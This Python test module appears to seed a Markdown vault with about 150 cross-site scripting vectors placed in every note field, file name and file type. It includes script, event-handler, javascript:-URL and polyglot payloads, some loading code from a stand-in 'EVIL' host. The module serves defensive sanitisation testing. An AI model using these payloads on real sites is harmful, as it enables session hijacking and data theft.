"""Texts that are meant to run where they are shown, and a vault that has them in every place."""


# `alert(1)` gets the number of its vector; EVIL is a server that must hear of nothing.
VECTORS = r'''
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</pre></code><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<script src=http://EVIL/1.js></script>
<script src=//EVIL/1.js></script>
<script type=module src=//EVIL/1.mjs></script>
<script/src=data:,alert(1)></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert(1)
<script
>alert(1)</script
>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror=alert`1`>
<img/src=x/onerror=alert(1)>
<img src="x`" `<script>alert(1)</script>"` `>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
"><img src=x onerror=alert(1)>
" onfocus=alert(1) autofocus x="
' onfocus=alert(1) autofocus x='
" onmouseover="alert(1)
x" onerror="alert(1)" y="
` onmouseover=alert(1) x=`
<img src=http://EVIL/1.png>
<img srcset="http://EVIL/1.png 1x">
<picture><source srcset=http://EVIL/1.png><img></picture>
<svg/onload=alert(1)>
<svg onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1) /></svg>#x" />
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<body onload=alert(1)>
<body onpageshow=alert(1)>
<html onmouseover=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=http://EVIL/1.png></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<iframe src=javascript:alert(1)></iframe>
<iframe src=http://EVIL/1></iframe>
<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<embed src=//EVIL/1.swf>
<applet code=javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="&#106;avascript&colon;alert&lpar;1&rpar;">x</a>
<form action=javascript:alert(1)><button>x</button></form>
<button form=toggle formaction=javascript:alert(1)>x</button>
<isindex action=javascript:alert(1) type=submit>
<base href=http://EVIL/1/>
<link rel=stylesheet href=http://EVIL/1.css>
<link rel=prefetch href=http://EVIL/1>
<meta http-equiv=refresh content="0;url=http://EVIL/1">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=Content-Security-Policy content="script-src *">
<style>@import 'http://EVIL/1.css';</style>
<style>*{background:url(http://EVIL/1.png)}</style>
<div style="background:url(http://EVIL/1.png)">x</div>
<div style="animation-name:x" onanimationstart=alert(1)>x</div>
<x onclick=alert(1) tabindex=1>x</x>
<x contenteditable onblur=alert(1)>x</x>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<frameset onload=alert(1)>
<table background=http://EVIL/1.png><tr><td>x</table>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<form id=toggle><input name=action></form>
<img name=policy id=main><a id=drafts href=x>x</a>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<?xml-stylesheet href="javascript:alert(1)"?>
<![CDATA[<script>alert(1)</script>]]>
<% alert(1) %>
{{constructor.constructor('alert(1)')()}}
${alert(1)}
javascript:alert(1)
JaVaScRiPt:alert(1)
 javascript:alert(1)
java	script:alert(1)
javascript&colon;alert(1)
javascript://x%0Aalert(1)
vbscript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1) xmlns="http://www.w3.org/2000/svg"/>
blob:http://127.0.0.1/1
//EVIL/1
http://EVIL/1
[x](javascript:alert(1))
[x](&#106;avascript:alert(1))
[x](<javascript:alert(1)>)
[x](data:text/html,<script>alert(1)</script>)
[x](x "" onmouseover=alert(1) ")
![x](javascript:alert(1))
![x](http://EVIL/1.png)
![x](x"onerror="alert(1))
![x](//EVIL/1.png)
<javascript:alert(1)>
<http://x"onmouseover=alert(1)>
[[x|<img src=x onerror=alert(1)>]]
![["onerror=alert(1) x="]]
[[javascript:alert(1)]]
[x]: javascript:alert(1) "onmouseover=alert(1)"
`<img src=x onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
%253Cscript%253Ealert(1)%253C/script%253E
\x3cscript\x3ealert(1)\x3c/script\x3e
\u003cscript\u003ealert(1)\u003c/script\u003e
＜script＞alert(1)＜/script＞
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
"'`--!></title></style></textarea></script><svg/onload=alert(1)>
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(1)//>\x3e
'''


def vectors(evil):
    lines = VECTORS.strip("\n").replace("<script\n>alert(1)</script\n>", "<script >alert(1)</script >").split("\n")
    lines += ["<scr\x00ipt>alert(1)</script>", "\u202e<script>alert(1)</script>", "<img\x0csrc=x\x0conerror=alert(1)>", "<x\u2028onclick=alert(1)>"]
    return [line.replace("alert(1)", f"alert({n})").replace("alert`1`", f"alert`{n}`").replace("EVIL/1", f"{evil}/{n}") for n, line in enumerate(lines)]


def name_of(number, vector):
    """A name that a file can have."""
    return f"{number} " + vector.replace("/", "_").replace("\x00", "_").encode()[:90].decode(errors="ignore")


def yaml(text):
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return '"' + "".join(f"\\x{ord(sign):02x}" if ord(sign) < 32 else sign for sign in escaped) + '"'


def note(number, vector):
    """Every place of a note that a text can stand in."""
    value = yaml(vector)
    return f"""---
title: {value}
tags: [{value}, plain]
aliases: [{value}]
category: {value}
source: {value}
summary: {value}
{value}: {value}
list: [{value}]
---
word {vector} word

# {vector}

- [ ] task {vector} 📅 2026-03-13
- [ ] {vector} #tag{vector} 🔁 {vector}

> [!{vector}] {vector}
> {vector}

| {vector} | b |
|---|---|
| {vector} | x |

[x]({vector}) [x](<{vector}>) [x](x "{vector}") ![x]({vector}) [{vector}](x) ![{vector}](x.png) [[{vector}]] [[x|{vector}]] ![[{vector}]]
<{vector}> [x][{number}] [^{vector}] #{vector} `{vector}` **{vector}** =={vector}== ~~{vector}~~ $${vector}$$ %%{vector}%%

[{number}]: {vector}
[^{vector}]: {vector}

{vector}

```{vector}
{vector}
```

    {vector}

<div>
{vector}
</div>
""".encode()


PLACES_IN_NOTE = 45

SCRIPT = "<script>alert(1)</script>"
SVG = """<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><image href="http://EVIL/1.png"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>"""
FILES = {
    "x": SCRIPT,
    "x.css": "*{background:url(http://EVIL/1.png)}",
    "x.csv": SCRIPT + ",x",
    "x.gif": f"GIF89a/*{SCRIPT}*/=1;alert(1)",
    "x.hta": SCRIPT,
    "x.htm": SCRIPT,
    "x.html": SCRIPT + "<img src=http://EVIL/1.png>",
    "x.js": "alert(1)",
    "x.json": f'"{SCRIPT}"',
    "x.md.html": SCRIPT,
    "x.mht": "Content-Type: text/html\n\n" + SCRIPT,
    "x.mjs": "alert(1)",
    "x.mp4": SCRIPT,
    "x.pdf": "%PDF-1.4 " + SCRIPT,
    "x.png": f"<html>{SCRIPT}</html>",
    "x.shtml": SCRIPT,
    "x.svg": SVG,
    "x.svg.png": SVG,
    "x.svgz": SVG,
    "x.txt": "<html>" + SCRIPT,
    "x.webmanifest": '{"start_url": "javascript:alert(1)"}',
    "x.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>',
    "x.xml": '<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></x>',
}


def fill(served, evil, all_vectors):
    for number, vector in enumerate(all_vectors):
        served.write(f"H/{name_of(number, vector)}.md", note(number, vector))
    embeds = []
    for name, content in FILES.items():
        served.write("Files/" + name, content.replace("EVIL", evil.name).encode())
        for way in ["![[%s]]", "[[%s]]", "![x](%s)"]:
            embeds.append(way % ("Files/" + name))
    served.write("Embeds.md", "\n\n".join(embeds).encode())
    for number, vector in enumerate(all_vectors[:40]):
        served.write(f"Files/{name_of(number, vector)}.svg", SVG.replace("EVIL", evil.name).encode())
    served.write(".vault/templates/<img src=x onerror=alert(1)>.md", b"# <script>alert(1)</script>\n")
